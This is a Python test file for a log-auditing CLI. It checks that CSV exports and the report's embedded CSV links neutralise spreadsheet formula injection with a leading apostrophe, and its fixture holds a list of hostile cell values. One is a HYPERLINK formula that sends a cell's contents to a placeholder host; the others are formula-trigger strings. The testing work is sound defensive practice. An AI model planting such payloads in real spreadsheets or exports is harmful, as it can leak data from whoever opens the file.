"""CSV cells a spreadsheet would read as formulas are neutralised (issue 42, item 6), as OWASP's "CSV
Injection" page recommends: a cell from the logs that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is written with a leading apostrophe, which a spreadsheet shows as text. Before issue 42 a dealer
named `=HYPERLINK("http://…")` reached `report --csv` and the page's CSV links as a formula. Numbers are
the report's own and keep their sign (an underpayment is `-15`, a number)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

from conftest import run_cli

ROOT = Path(__file__).resolve().parents[2]
DISPUTES = ROOT / "samples" / "logs" / "disputes" / "BJ-03-2016-06-11.jsonl"
NAMES = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"]


def _log(tmp_path: Path) -> Path:
    """The disputed séance, each round dealt by a dealer of a hostile name, each bet by such a player."""
    out = []
    for number, line in enumerate(DISPUTES.read_text(encoding="utf-8").splitlines()):
        record = json.loads(line)
        if record.get("type") == "round":
            record["dealer"] = NAMES[number % len(NAMES)]
            for bet in record.get("bets", []):
                bet["player"] = NAMES[(number + 1) % len(NAMES)]
        out.append(json.dumps(record))
    log = tmp_path / "hostile.jsonl"
    log.write_text("\n".join(out) + "\n", encoding="utf-8")
    return log


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_names_that_read_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    log = _log(tmp_path)
    done = run_cli("check", str(log), "--dataset", str(tmp_path / "ds"), "--no-config", "-q")
    assert done.returncode == 1, done.stderr
    page, folder = tmp_path / "audit.html", tmp_path / "csv"
    done = run_cli("report", str(tmp_path / "ds"), "-o", str(page), "--csv", str(folder))
    assert done.returncode == 0, done.stderr
    files = {p.stem: p.read_bytes().decode("utf-8") for p in folder.glob("*.csv")}
    html = page.read_text(encoding="utf-8")
    links = {
        name: unquote(
            html.split(f'download="{name}.csv" href="data:text/csv;charset=utf-8,', 1)[1].split('"')[0]
        )
        for name in files
    }
    dealers = _cells(files["money_by_dealer"])
    for name in NAMES:
        assert "'" + name in dealers  # each hostile dealer, as text
    for text in (*files.values(), *links.values()):
        for cell in _cells(text):
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"a formula reaches a CSV: {cell!r}")
            if cell.startswith("-"):
                Decimal(cell)  # a number: an underpayment, or a negative net, as the report writes it
    # The apostrophe is the only change: the name is still there whole.
    assert any(cell == "'" + NAMES[0] for cell in _cells(links["money_by_dealer"]))
